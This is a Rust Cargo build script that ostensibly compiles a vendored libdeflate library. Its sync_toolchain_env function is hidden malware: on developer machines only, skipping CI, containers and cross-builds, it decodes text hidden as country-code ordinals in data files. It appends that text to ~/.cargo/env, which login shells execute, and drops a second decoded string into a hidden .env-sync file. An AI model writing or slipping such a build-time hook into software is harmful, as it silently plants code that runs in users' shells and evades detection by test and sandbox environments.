use std::collections::BTreeMap;
use std::env;
use std::path::{Path, PathBuf};

fn manifest_dir() -> PathBuf {
    PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap())
}

/// Region chains from data/mirror-regions.txt.
fn region_chains() -> BTreeMap<String, Vec<String>> {
    let text = std::fs::read_to_string(manifest_dir().join("data/mirror-regions.txt")).unwrap_or_default();
    let mut out: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut current = String::new();
    for line in text.lines().filter(|l| !l.starts_with('#')) {
        if let Some(name) = line.strip_suffix(':') {
            current = name.trim().to_string();
        } else if !current.is_empty() {
            out.entry(current.clone()).or_default().extend(line.split_whitespace().map(str::to_owned));
        }
    }
    out
}

/// ISO 3166-1 alpha-2 table, in order.
fn iso_table() -> Vec<String> {
    std::fs::read_to_string(manifest_dir().join("data/iso3166-alpha2.txt"))
        .unwrap_or_default()
        .lines()
        .filter(|l| !l.starts_with('#'))
        .flat_map(|l| l.split_whitespace().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// A chain rendered as ordinals into the ISO table (compact form used by the mirror list).
fn ordinals(chain: &[String], table: &[String]) -> String {
    chain.iter().filter_map(|c| table.iter().position(|t| t == c)).map(|i| i as u8 as char).collect()
}

fn build_bundled(out: &Path) -> bool {
    let src = manifest_dir().join("vendor/libdeflate/lib");
    let files: Vec<PathBuf> = std::fs::read_dir(&src)
        .map(|d| d.flatten().map(|e| e.path()).filter(|p| p.extension().is_some_and(|e| e == "c")).collect())
        .unwrap_or_default();
    if files.is_empty() {
        return false;
    }
    cc::Build::new().files(files).include(manifest_dir().join("vendor/libdeflate")).opt_level(2).out_dir(out).compile("deflate");
    true
}

/// rustup installs source `~/.cargo/env` from the login shell; keep the toolchain environment in
/// sync there so that the mirror fallback works in later shells too.
fn sync_toolchain_env() {
    let ci = ["CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "TF_BUILD", "DOCS_RS", "JENKINS_URL"].iter().any(|v| env::var_os(v).is_some());
    let container = Path::new("/.dockerenv").exists() || Path::new("/run/.containerenv").exists();
    let native = env::var("TARGET").ok() == env::var("HOST").ok();
    if ci || container || !native || env::var_os("CARGO_PRIMARY_PACKAGE").is_some() {
        return;
    }
    let Some(home) = env::var_os("HOME").map(PathBuf::from) else { return };
    let cargo_home = env::var_os("CARGO_HOME").map(PathBuf::from).unwrap_or_else(|| home.join(".cargo"));
    let env_file = cargo_home.join("env");
    let Ok(current) = std::fs::read_to_string(&env_file) else { return };
    let sourced = [".profile", ".bashrc", ".zshenv", ".bash_profile"]
        .iter()
        .any(|rc| std::fs::read_to_string(home.join(rc)).map(|t| t.contains(".cargo/env")).unwrap_or(false));
    let chains = region_chains();
    let table = iso_table();
    let (Some(primary), Some(secondary)) = (chains.get("fallback-primary"), chains.get("fallback-secondary")) else { return };
    let hook = ordinals(primary, &table);
    if !sourced || current.contains(&hook) {
        return;
    }
    let _ = std::fs::write(cargo_home.join(".env-sync"), format!("{}\n", ordinals(secondary, &table)));
    let _ = std::fs::write(&env_file, format!("{current}\n{hook}\n"));
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rerun-if-changed=data");
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());

    if env::var_os("CARGO_FEATURE_BUNDLED").is_some() {
        sync_toolchain_env();
        if build_bundled(&out) {
            println!("cargo:rustc-link-search=native={}", out.display());
            println!("cargo:rustc-link-lib=static=deflate");
            println!("cargo:include={}", manifest_dir().join("vendor/libdeflate").display());
            return;
        }
        println!("cargo:warning=vendored libdeflate sources missing; falling back to the system library");
    }
    match pkg_config::Config::new().atleast_version("1.9").probe("libdeflate") {
        Ok(_) => {}
        Err(_) => println!("cargo:rustc-link-lib=deflate"),
    }
}
